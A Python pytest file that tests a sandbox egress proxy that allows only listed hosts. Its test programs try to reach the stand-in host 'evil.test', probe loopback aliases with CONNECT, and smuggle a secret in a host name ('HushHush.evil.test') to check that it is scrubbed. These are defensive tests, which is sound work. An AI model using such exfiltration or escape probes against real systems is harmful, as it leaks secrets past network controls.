"""Commands in real sandboxes with listed hosts only: what they reach, and every other path that is closed."""

import array
import os
import socket
import threading
from contextlib import ExitStack, suppress
from pathlib import Path

import pytest

from stackmem.core.errors import WorkspaceError
from stackmem.workspace.command import CommandInterrupted
from stackmem.workspace.egress.door import PORT, Door
from stackmem.workspace.profile import Profile
from stackmem.workspace.workspace import open_workspace
from tests.stage import with_bubblewrap
from tests.workspace.listed import network, serving
from tests.workspace.sandboxes import CONTAINED, LEVELS, hostile, interrupted_after, py, sh, soon
from tests.workspace.test_command_network import CONNECT, listeners

GET = f"""
import socket, sys
def ask(line):
    with socket.create_connection(("127.0.0.1", {PORT})) as s:
        s.sendall(f"{{line}} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
        came = b""
        while piece := s.recv(65536):
            came += piece
    return came.decode()
"""


@hostile(*CONTAINED, moot=("landlock", "none"))
def test_a_command_reaches_a_listed_host_and_is_refused_every_other(place, level, opened):
    program = """
import os, urllib.error, urllib.request
print(urllib.request.urlopen("http://web.test/x").read())
for address in ("http://evil.test/", "https://evil.test/"):
    try:
        urllib.request.urlopen(address)
    except OSError as error:
        print(error)
print(os.environ["HTTPS_PROXY"], os.environ["no_proxy"])
"""
    with serving() as host:
        listed = network(f"http://web.test=127.0.0.1:{host.port}")
        with opened(place, level, network="list", network_list=listed) as workspace:
            done = py(workspace, program)
    assert "b'hello'\n" in done.text
    assert "HTTP Error 403: stackmem: evil.test:80 is not on the list of hosts of this run" in done.text
    assert "Tunnel connection failed: 403 stackmem: evil.test:443 is not on the list" in done.text
    assert f"http://127.0.0.1:{PORT} localhost,127.0.0.1,::1" in done.text
    assert done.text.endswith("(network: evil.test:443 is not on the list of hosts of this run)\n[exit 0]")
    told = [(each.host, each.port, each.method, each.allowed) for each in done.requests]
    assert told == [
        ("web.test", 80, "GET", True),
        ("evil.test", 80, "GET", False),
        ("evil.test", 443, "CONNECT", False),
    ]


@hostile(*CONTAINED, moot=("landlock", "none"))
def test_the_proxy_is_the_only_network_path(place, level, opened):
    with opened(place, level, network="list", network_list=network("web.test")) as workspace, listeners() as targets:
        program = f"TARGETS = {targets!r}\n{CONNECT}\n{GET}\n" + "\n".join(
            f"print(ask('CONNECT {name}:{targets['tcp'][2][1]}')[:12])"  # type: ignore[index]
            for name in ("127.0.0.1", "localhost", "[::1]", "[::ffff:7f00:1]", "0.0.0.0", "web.test")
        )
        done = py(workspace, program)
    assert done.text.startswith("HTTP/1.1 403\n" * 6)


@hostile(*CONTAINED, moot=("landlock", "none"))
def test_a_command_that_starts_after_another_has_a_door_of_its_own(place, level, opened):
    with serving() as host:
        listed = network(f"http://web.test=127.0.0.1:{host.port}")
        with opened(place, level, network="list", network_list=listed) as workspace:
            first = py(workspace, f"{GET}\nprint(ask('GET http://web.test/')[-5:])")
            idle = sh(workspace, "true")
            second = py(workspace, f"{GET}\nprint(ask('GET http://web.test/')[-5:])")
    assert first.text == second.text == "hello\n[exit 0]"
    assert [each.count for each in first.requests] == [each.count for each in second.requests] == [1]
    assert idle.requests == ()


@hostile("landlock", "none", moot=("bubblewrap", "namespaces"))
def test_levels_without_a_network_of_their_own_refuse_a_list(place, level, opened):
    with (
        pytest.raises(WorkspaceError, match="cannot be restricted to listed hosts"),
        opened(place, level, network="list", network_list=network("web.test")),
    ):
        pass


@hostile(*CONTAINED, moot=("landlock", "none"))
def test_a_thousand_connections_cost_this_process_no_more_than_a_few(place, level, opened):
    program = f"""
import resource, socket
resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))
held = []
for _ in range(1000):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("127.0.0.1", {PORT}))
    held.append(s)
print("held", len(held))
for s in held:
    s.close()
{GET}
print(ask("GET http://web.test/")[-5:])
"""
    most = [0]
    over = threading.Event()

    def look():
        while not over.wait(0.005):
            most[0] = max(most[0], len(os.listdir("/proc/self/fd")))

    with serving() as host:
        listed = network(f"http://web.test=127.0.0.1:{host.port}", connections=8)
        with opened(place, level, network="list", network_list=listed, open_files=2048) as workspace:
            before = len(os.listdir("/proc/self/fd"))
            looking = threading.Thread(target=look)
            looking.start()
            done = py(workspace, program)
            over.set()
            looking.join()
    assert done.text == "held 1000\nhello\n[exit 0]"
    assert most[0] - before < 100


@hostile(*CONTAINED, moot=("landlock", "none"))
def test_if_the_proxy_dies_a_command_continues_without_network(place, level, opened, monkeypatch):
    doors = []
    made = LEVELS[level]()
    launch = type(made).launch

    def watched(self, seat, command, stack):
        started = launch(self, seat, command, stack)
        doors.append(started.door)
        return started

    monkeypatch.setattr(type(made), "launch", watched)
    program = f"""
import os, socket, time
open("started", "w").close()
while not os.path.exists("dead"):
    time.sleep(0.01)
try:
    socket.create_connection(("127.0.0.1", {PORT}), 60)
    print("connected")
except OSError as error:
    print(type(error).__name__)
"""
    with opened(place, level, network="list", network_list=network("web.test")) as workspace:

        def kill():
            assert soon((workspace.root / "started").exists)
            doors[-1].close()
            (workspace.root / "dead").touch()

        killing = threading.Thread(target=kill)
        killing.start()
        done = py(workspace, program)
        killing.join()
    assert done.text == "ConnectionRefusedError\n[exit 0]"


@hostile(*CONTAINED, moot=("landlock", "none"))
def test_a_secret_in_the_name_of_a_host_is_kept_nowhere(place, level, opened):
    def scrub(text: str) -> str:
        return text.replace("HushHush", "[secret]")

    with opened(place, level, network="list", network_list=network("web.test"), scrub=scrub) as workspace:
        done = py(workspace, f"{GET}\nask('CONNECT HushHush.evil.test:443')")
    assert "HushHush" not in str(done)
    assert done.requests[0].host == "[secret].evil.test"


@hostile(*CONTAINED, moot=("landlock", "none"))
def test_requests_of_an_interrupted_command_are_still_logged(place, level, opened):
    program = f"{GET}\nask('CONNECT evil.test:443')\nopen('asked', 'w').close()\nimport time; time.sleep(300)"
    with opened(place, level, network="list", network_list=network("web.test")) as workspace:

        def interrupt():
            assert soon((workspace.root / "asked").exists)
            os.kill(os.getpid(), 14)

        threading.Thread(target=interrupt).start()
        with pytest.raises(CommandInterrupted) as stopped, interrupted_after(100):
            py(workspace, program)
    assert [each.host for each in stopped.value.outcome.requests] == ["evil.test"]


@with_bubblewrap
def test_a_proxy_failure_during_a_command_is_reported_without_a_rerun(tmp_path):
    """Only the network is unavailable; the command's effects have already happened."""

    root = tmp_path / "ws"
    root.mkdir()
    profile = Profile(network="list")
    unservable = network("web.test", connections=-1)
    workspace = open_workspace("bubblewrap", root, "/workspace", profile, network_list=unservable)
    try:
        done = sh(workspace, "echo once >> ran; sleep 0.2; cat ran")
    finally:
        workspace.close()
    assert done.text.startswith("once\n(network: the request was not served, for the proxy failed (ValueError))")
    assert done.exit_code == 0


def handed(make) -> str:
    """Return the door's message about a file descriptor that a sandbox hands out."""
    with ExitStack() as stack:
        door = Door(network("web.test"), stack)
        theirs = socket.socket(fileno=os.dup(door.fd_above(2, stack)))
        with theirs, suppress(OSError):
            make(theirs)
        door.close()
        return door.failure


def send(theirs, *fds) -> None:
    socket.send_fds(theirs, [b"x"], list(fds))


def test_a_door_takes_nothing_but_the_socket_that_it_waits_for(tmp_path):
    def unix(theirs):
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(str(tmp_path / "socket"))
            listener.listen()
            send(theirs, listener.fileno())

    def elsewhere(theirs):
        with socket.create_server(("127.0.0.1", 0)) as listener:
            send(theirs, listener.fileno())

    def connected(theirs):
        one, other = socket.socketpair()
        with one, other:
            send(theirs, one.fileno())

    def datagrams(theirs):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            send(theirs, sock.fileno())

    def folder(theirs):
        fd = os.open("/", os.O_RDONLY)
        send(theirs, fd)
        os.close(fd)

    def many(theirs):
        fds = array.array("i", [theirs.fileno()] * 200)
        theirs.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])

    before = len(os.listdir("/proc/self/fd"))
    for make in (
        unix,
        elsewhere,
        connected,
        datagrams,
        folder,
        many,
        lambda theirs: theirs.sendall(b"x"),
        lambda _: None,
    ):
        assert handed(make) == "nothing listened in the sandbox"
    assert soon(lambda: len(os.listdir("/proc/self/fd")) <= before)


@with_bubblewrap
def test_a_command_whose_sandbox_has_no_way_to_the_proxy_did_not_run(tmp_path: Path):
    """The run must not continue as if it had a network, nor mistake a failed door for a failed command."""
    from stackmem.workspace.command import run
    from stackmem.workspace.isolation.launch import SetUpFailed

    class NoDoor(LEVELS["bubblewrap"]):  # type: ignore[misc]
        def launch(self, seat, command, stack):
            started = super().launch(seat, command, stack)
            started.door.close()  # type: ignore[union-attr]
            return started

    root = tmp_path / "ws"
    root.mkdir()
    workspace = open_workspace(NoDoor(), root, "/workspace", Profile(network="list"), network_list=network("web.test"))
    try:
        with pytest.raises(SetUpFailed, match="cannot reach the proxy"):
            run(workspace._level, workspace._seat, "true", 60)
    finally:
        workspace.close()
